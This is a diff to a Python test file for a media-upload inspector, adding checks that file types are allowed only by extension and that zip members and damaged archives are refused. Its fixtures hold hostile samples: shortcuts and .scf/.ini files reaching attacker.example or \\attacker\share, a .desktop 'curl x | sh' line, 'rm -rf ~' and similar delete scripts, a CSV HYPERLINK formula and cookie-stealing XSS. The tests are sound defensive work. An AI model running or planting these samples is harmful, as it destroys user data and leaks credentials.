@@ -6,9 +6,12 @@ where ffmpeg and ffprobe are installed.
 
 from __future__ import annotations
 
+import errno
 import io
 import json
+import logging
 import shutil
+import signal
 import stat
 import struct
 import subprocess
@@ -23,9 +26,10 @@ import pytest
 from PIL import Image
 from pypdf import PdfWriter
 
-from ocp.media import documents, images
+from ocp.media import audiovisual, documents, images
 from ocp.media import inspect as media_inspect
 from ocp.media.inspect import PPTX, Inspection, inspect_file
+from ocp.media.verdict import MachineFault
 
 ROOT = Path(__file__).resolve().parents[2]
 HAS_FFMPEG = shutil.which("ffmpeg") is not None and shutil.which("ffprobe") is not None
@@ -212,8 +216,7 @@ def test_inspection_round_trips_through_a_dict_and_ignores_unknown_keys() -> Non
         ("JPEG", "photo.JPG", "image/jpeg"),
         ("GIF", "photo.gif", "image/gif"),
         ("WEBP", "photo.webp", "image/webp"),
-        ("PNG", "no-extension", "image/png"),
-        ("PNG", "photo.dat", "image/png"),
+        ("JPEG", "photo.jfif", "image/jpeg"),
     ],
 )
 def test_images_are_measured_and_get_a_jpeg_thumbnail(
@@ -404,8 +407,9 @@ def test_mp4_with_64_bit_box_sizes(tmp_path: Path) -> None:
 
 def test_heic_is_not_accepted(tmp_path: Path) -> None:
     data = box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic") + box(b"meta", bytes(16))
-    result = rejected(tmp_path, "IMG_0001.HEIC", data)
+    result = rejected(tmp_path, "IMG_0001", data)
     assert "(detected: a HEIC or AVIF image)" in (result.reason or "")
+    assert rejected(tmp_path, "IMG_0001.HEIC", data).reason == not_accepted_name("heic")
 
 
 def test_wav_duration(tmp_path: Path) -> None:
@@ -561,8 +565,8 @@ def test_plain_text_and_markdown(tmp_path: Path) -> None:
     assert text == Inspection(status="ready", content_type="text/plain", kind="text")
     markdown = run(tmp_path, "README.md", "# Titre\n\nDéjà vu.\n".encode())
     assert (markdown.content_type, markdown.kind) == ("text/markdown", "text")
-    assert run(tmp_path, "notes", b"\xef\xbb\xbfwith a BOM").content_type == "text/plain"
-    assert run(tmp_path, "data.csv", b"a,b\n1,2\n").content_type == "text/plain"
+    assert run(tmp_path, "notes.txt", b"\xef\xbb\xbfwith a BOM").content_type == "text/plain"
+    assert run(tmp_path, "notes.markdown", b"*a*").content_type == "text/markdown"
 
 
 def test_long_text_is_decoded_across_chunk_boundaries(tmp_path: Path) -> None:
@@ -592,13 +596,21 @@ def test_utf16_text_is_rejected(tmp_path: Path) -> None:
 
 # Names that lie, and types we refuse -------------------------------------------------------
 
-NOT_ACCEPTED = (
-    "This kind of file is not accepted (detected: {}). Accepted: images (PNG, JPEG, GIF, WebP), "
-    "PDF, video (MP4, MOV, WebM, MKV), audio (MP3, M4A, WAV, OGG, FLAC), text and Markdown, zip "
-    "archives of slides and PowerPoint (.pptx)."
+ACCEPTED = (
+    "Accepted: images (PNG, JPEG, GIF, WebP), PDF, video (MP4, MOV, WebM, MKV), audio (MP3, "
+    "M4A, WAV, OGG, FLAC), text (.txt) and Markdown (.md), zip archives of slides and "
+    "PowerPoint (.pptx)."
 )
+NOT_ACCEPTED = "This kind of file is not accepted (detected: {}). " + ACCEPTED
+
+
+def not_accepted_name(extension: str) -> str:
+    return f"Files ending in .{extension} are not accepted. {ACCEPTED}"
+
+
 HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>"
 SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
+APPLE_DOUBLE = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + bytes(32)
 ELF = b"\x7fELF\x02\x01\x01" + bytes(120)
 PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(100) + b"PE\x00\x00"
 
@@ -656,6 +668,63 @@ def test_dangerous_extensions_are_refused_whatever_the_bytes(
     assert (result.reason or "").startswith("Files ending in .")
 
 
+# Text that does something when opened, and names outside every allow-list.
+SHORTCUT = b"[InternetShortcut]\r\nURL=file://attacker.example/share/payload\r\n"
+ACTIVE_TEXT = {
+    "evil.url": SHORTCUT,
+    "EVIL.URL": SHORTCUT,
+    "evil.url.": SHORTCUT,
+    "photo.png.url": SHORTCUT,
+    "tweak.reg": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n",
+    "query.iqy": b"WEB\r\n1\r\nhttps://attacker.example/\r\n",
+    "share.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker\\share\\icon.ico\r\n",
+    "app.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x | sh'\n",
+    "run.sh": b"#!/bin/sh\nrm -rf ~\n",
+    "run.command": b"#!/bin/sh\nopen -a Calculator\n",
+    "run.bat": b"@echo off\r\ndel /q *\r\n",
+    "run.cmd": b"@echo off\r\n",
+    "run.ps1": b"Remove-Item -Recurse ~\n",
+    "run.vbs": b'CreateObject("WScript.Shell").Run "calc"\n',
+    "run.js": b"WScript.Echo(1)\n",
+    "run.hta": b"<hta:application/>",
+    "run.py": b"import os\nos.system('calc')\n",
+    "setup.inf": b"[Version]\r\nSignature=$Windows NT$\r\n",
+    "open.settingcontent-ms": b"<PCSettings><DeepLink>calc</DeepLink></PCSettings>",
+    "link.webloc": b"<plist><dict><key>URL</key><string>file:///</string></dict></plist>",
+    "sheet.csv": b'=HYPERLINK("https://attacker.example","click"),b\n',
+    "page.html": b"just words",
+    "config.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\attacker\\share\\x.ico\r\n",
+    "notes.text": b"plain words",
+    "shortcut.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(68),
+    "photo.url": image_bytes("PNG"),
+}
+
+
+@pytest.mark.parametrize(("filename", "data"), ACTIVE_TEXT.items(), ids=list(ACTIVE_TEXT))
+def test_names_outside_every_allow_list_are_refused_whatever_the_bytes(
+    tmp_path: Path, filename: str, data: bytes
+) -> None:
+    extension = filename.rstrip(".").rsplit(".", 1)[1].lower()
+    result = rejected(tmp_path, filename, data)
+    assert result.reason == not_accepted_name(extension)
+    assert result.content_type is None
+
+
+@pytest.mark.parametrize(
+    ("data", "reason"),
+    [
+        (
+            b"plain words",
+            "The file has no extension; plain text must end in .txt, .md or .markdown.",
+        ),
+        (image_bytes("PNG"), "The file has no extension; a PNG image must end in .png."),
+        (pdf_bytes(1), "The file has no extension; a PDF document must end in .pdf."),
+    ],
+)
+def test_a_file_without_an_extension_is_refused(tmp_path: Path, data: bytes, reason: str) -> None:
+    assert rejected(tmp_path, "README", data).reason == reason
+
+
 def test_svg_without_an_extension_is_not_accepted(tmp_path: Path) -> None:
     assert rejected(tmp_path, "drawing", SVG).reason == NOT_ACCEPTED.format("an SVG image")
 
@@ -680,8 +749,9 @@ def test_zip_of_slides(tmp_path: Path) -> None:
         "deck/02.jpg": image_bytes("JPEG", (20, 10)),
         "deck/03.pdf": pdf_bytes(1),
         "deck/notes.md": b"# Notes\n",
-        "__MACOSX/deck/._01.png": b"\x00\x05\x16\x07 resource fork",
-        "deck/.DS_Store": b"\x00\x00\x00\x01Bud1",
+        "__MACOSX/deck/._01.png": APPLE_DOUBLE,
+        "deck/.DS_Store": b"\x00\x00\x00\x01Bud1" + bytes(64),
+        "Thumbs.db": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64),
     }
     result = run(tmp_path, "slides.zip", zip_bytes(members))
     assert result == Inspection(
@@ -780,7 +850,8 @@ def test_zip_with_too_many_entries(tmp_path: Path, monkeypatch: pytest.MonkeyPat
 @pytest.mark.parametrize(
     ("name", "data", "what"),
     [
-        ("tool.exe", PE, "is a Windows executable; a zip of slides may hold only"),
+        ("tool.exe", PE, "ends in .exe, which is not accepted."),
+        ("tool.png", PE, "is a Windows executable; a zip of slides may hold only"),
         ("page.txt", HTML, "is an HTML document;"),
         ("inner.zip", zip_bytes({"a.txt": b"a"}), "is a zip archive;"),
         ("song.mp3", MP3_FRAME * 3, "is an MP3 audio file;"),
@@ -797,14 +868,151 @@ def test_zip_with_a_file_that_is_not_a_slide(
     assert (result.reason or "").startswith(f"The archive entry 'deck/{name}' {what}")
 
 
+@pytest.mark.parametrize(
+    ("name", "data", "what"),
+    [
+        ("deck/evil.url", SHORTCUT, "ends in .url, which is not accepted."),
+        ("deck/tweak.reg", b"Windows Registry Editor Version 5.00\r\n", "ends in .reg,"),
+        ("deck/run.sh", b"#!/bin/sh\n", "ends in .sh,"),
+        ("deck/desktop.ini", b"[.ShellClassInfo]\r\n", "ends in .ini,"),
+        ("deck/README", b"plain words", "has no extension; plain text must end in .txt,"),
+        ("deck/01", image_bytes("PNG", (4, 4)), "has no extension; a PNG image must end in .png."),
+        # Litter is skipped only when its bytes are what its name says.
+        ("__MACOSX/run.bat", b"@echo off\r\n", "ends in .bat,"),
+        ("__MACOSX/deck/._01.png", b"not a resource fork", "is named .png but its contents"),
+        ("deck/.DS_Store", b"[InternetShortcut]\r\n", "ends in .ds_store,"),
+        ("Thumbs.db", b"plain words", "ends in .db,"),
+    ],
+)
+def test_zip_members_follow_the_same_allow_lists(
+    tmp_path: Path, name: str, data: bytes, what: str
+) -> None:
+    archive = zip_bytes({"deck/01.png": image_bytes("PNG", (4, 4)), name: data})
+    result = rejected(tmp_path, "slides.zip", archive)
+    assert (result.reason or "").startswith(f"The archive entry {name!r} {what}"), result.reason
+
+
 def test_zip_without_files_is_rejected(tmp_path: Path) -> None:
-    data = zip_bytes({"deck/": b"", "__MACOSX/._deck": b"\x00\x05"})
+    data = zip_bytes({"deck/": b"", "__MACOSX/._deck": APPLE_DOUBLE})
     assert rejected(tmp_path, "slides.zip", data).reason == "The archive holds no files."
 
 
 def test_damaged_zip_is_rejected(tmp_path: Path) -> None:
     result = rejected(tmp_path, "slides.zip", b"PK\x03\x04" + b"garbage" * 50)
     assert result.reason == "The file looks like a zip archive but is damaged or incomplete."
+
+
+# Damage: whatever a parser raises rejects the file at once, in words ----------------------
+
+DAMAGED_ZIP = "The file looks like a zip archive but is damaged or incomplete."
+NOTES = b"# Notes\n" + bytes(range(32, 127)) * 200  # longer than the bytes sniffed per entry
+
+
+def corrupt_member_zip(compression: int, *, keep: int = 0) -> bytes:
+    """A zip of slides whose deck/notes.md has its stored bytes flipped after the first
+    ``keep`` (its header, its CRC and the other entry intact)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", compression) as archive:
+        archive.writestr("deck/01.png", image_bytes("PNG", (8, 8)))
+        archive.writestr("deck/notes.md", NOTES)
+    data = bytearray(out.getvalue())
+    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
+        info = archive.getinfo("deck/notes.md")
+    name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
+    start = info.header_offset + 30 + name_length + extra_length
+    for position in range(start + keep, start + info.compress_size):
+        data[position] ^= 0x55
+    return bytes(data)
+
+
+CORRUPT_MEMBERS = {
+    # past the bytes sniffed: only reading the entry to its end (its CRC) shows the damage
+    "stored-bad-crc-late": (corrupt_member_zip(zipfile.ZIP_STORED, keep=9000), "BadZipFile"),
+    "deflate": (corrupt_member_zip(zipfile.ZIP_DEFLATED), "zlib.error"),
+    "bzip2": (corrupt_member_zip(zipfile.ZIP_BZIP2), "OSError"),
+    "lzma": (corrupt_member_zip(zipfile.ZIP_LZMA, keep=9), "LZMAError"),
+}
+
+
+@pytest.mark.parametrize(("data", "error"), CORRUPT_MEMBERS.values(), ids=list(CORRUPT_MEMBERS))
+def test_a_zip_with_a_corrupt_member_is_rejected_as_damaged(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture, data: bytes, error: str
+) -> None:
+    caplog.set_level(logging.INFO, logger="ocp.media.inspect")
+    result = rejected(tmp_path, "slides.zip", data)
+    assert (result.reason, result.content_type) == (DAMAGED_ZIP, "application/zip")
+    assert "damaged: " in caplog.text and error in caplog.text  # the details: the log only
+
+
+def test_every_entry_of_a_pptx_is_read_in_full(tmp_path: Path) -> None:
+    members = pptx_members(**{"ppt/media/image1.png": image_bytes("PNG", (4, 4)) * 50})
+    data = bytearray(zip_bytes(members, zipfile.ZIP_STORED))
+    data[data.rfind(b"IEND") - 40] ^= 0x55  # inside the image's stored bytes: only its CRC knows
+    result = rejected(tmp_path, "talk.pptx", bytes(data))
+    assert (
+        result.reason
+        == "The file looks like a PowerPoint presentation but is damaged or incomplete."
+    )
+
+
+def test_any_parser_exception_is_damage_and_stays_out_of_the_reason(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def broken(path: Path, content_type: str, options: Any) -> Inspection:
+        raise KeyError("internal-detail-42")
+
+    monkeypatch.setitem(media_inspect._VALIDATORS, "image", broken)
+    caplog.set_level(logging.INFO, logger="ocp.media.inspect")
+    result = rejected(tmp_path, "photo.png", image_bytes("PNG"))
+    assert result.reason == "The file looks like a PNG image but is damaged or incomplete."
+    assert "KeyError" in caplog.text and "internal-detail-42" in caplog.text
+
+
+@pytest.mark.parametrize(
+    "error",
+    [OSError(errno.EIO, "Input/output error"), OSError(errno.ENOSPC, "No space left on device")],
+)
+def test_failures_of_the_machine_are_raised_not_judged(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: OSError
+) -> None:
+    def failing(path: Path, content_type: str, options: Any) -> Inspection:
+        raise error
+
+    monkeypatch.setitem(media_inspect._VALIDATORS, "image", failing)
+    with pytest.raises(OSError) as raised:
+        run(tmp_path, "photo.png", image_bytes("PNG"))
+    assert raised.value is error
+
+
+def fake_ffprobe(folder: Path, body: str) -> str:
+    script = folder / "ffprobe"
+    script.write_text(f"#!/bin/sh\n{body}\n")
+    script.chmod(script.stat().st_mode | stat.S_IEXEC)
+    return str(script)
+
+
+def test_a_missing_ffprobe_is_the_machine_s_failure(tmp_path: Path) -> None:
+    with pytest.raises(FileNotFoundError):
+        run(tmp_path, "tone.wav", wav_bytes(), ffprobe=str(tmp_path / "no-such-ffprobe"))
+
+
+def test_an_ffprobe_that_spends_its_processor_time_rejects_the_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(audiovisual, "FFPROBE_CPU_SECONDS", 1)
+    busy = fake_ffprobe(tmp_path, "while :; do :; done")
+    result = rejected(tmp_path, "tone.wav", wav_bytes(), ffprobe=busy)
+    assert (result.reason, result.content_type) == (media_inspect.TOO_COMPLEX, "audio/wav")
+
+
+def test_an_ffprobe_that_waits_past_its_slack_is_the_machine_s_failure(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(audiovisual, "FFPROBE_CPU_SECONDS", 1)
+    monkeypatch.setattr(audiovisual, "FFPROBE_SLACK_SECONDS", 1)
+    idle = fake_ffprobe(tmp_path, "exec sleep 30")  # no processor time: a stalled machine
+    with pytest.raises(MachineFault):
+        run(tmp_path, "tone.wav", wav_bytes(), ffprobe=idle)
 
 
 # The command line --------------------------------------------------------------------------
@@ -848,6 +1056,34 @@ def test_cli_exits_1_on_an_unexpected_error(tmp_path: Path) -> None:
     assert done.returncode == 1
     assert done.stdout == ""
     assert "FileNotFoundError" in done.stderr
+
+
+def many_pages_pdf(pages: int) -> bytes:
+    """A valid PDF of ``pages`` empty pages in one flat page tree: a few MB that take pypdf
+    seconds of processor time to count."""
+    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(pages))
+    objects = [
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
+    ]
+    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 1]>>"] * pages
+    out = bytearray(b"%PDF-1.4\n")
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def test_cli_running_out_of_processor_time_ends_with_sigxcpu(tmp_path: Path) -> None:
+    """The kernel's default action, even inside C code: the caller can tell it from a crash."""
+    done = cli(tmp_path, "long.pdf", many_pages_pdf(50_000), "--max-cpu-seconds=1")
+    assert done.returncode == -signal.SIGXCPU, (done.returncode, done.stdout, done.stderr)
+    assert done.stdout == ""
 
 
 def test_cli_memory_limit_stops_a_big_image(tmp_path: Path) -> None:
